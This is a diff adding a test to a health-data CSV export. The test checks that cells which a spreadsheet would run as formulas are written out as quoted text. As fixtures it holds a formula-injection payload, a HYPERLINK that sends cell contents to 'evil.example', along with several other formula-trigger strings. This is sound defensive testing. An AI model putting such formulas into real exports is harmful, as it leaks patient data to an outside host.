@@ -691,3 +691,31 @@ async def test_messages_caregivers_and_proxy_answers_are_exported(db: Database, 
     proxied = [r for r in by_type["QuestionnaireResponse"] if "source" in r]
     assert [r["source"] for r in proxied] == [{"reference": f"urn:uuid:{person['id']}"}]
     assert "Maria" not in json.dumps(bundle)
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(db: Database, clock: FakeClock) -> None:
+    patient, _ = await seed(db, clock)
+    notes = [
+        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+        "+1 more pain",
+        "-2 better",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "Rücken „stärker“, Übelkeit; 3,5 km gegangen",
+    ]
+    async with db.session() as session:
+        for text in notes:
+            session.add(Note(patient_id=patient.id, text=text, created_at=clock.now()))
+        await session.commit()
+        data = await export.collect(session, clock.now(), patient=patient)
+    rows = list(csv.DictReader(io.StringIO(export.csv_files(data)["notes.csv"])))
+    written = {row["text"] for row in rows}
+
+    for text in notes[:5]:
+        assert "'" + text in written
+    assert notes[5] in written  # umlauts and quotes as they are
+    assert 'Knee hurts, "a bit", today' in written
+    for name, text in export.csv_files(data).items():
+        for row in csv.reader(io.StringIO(text)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
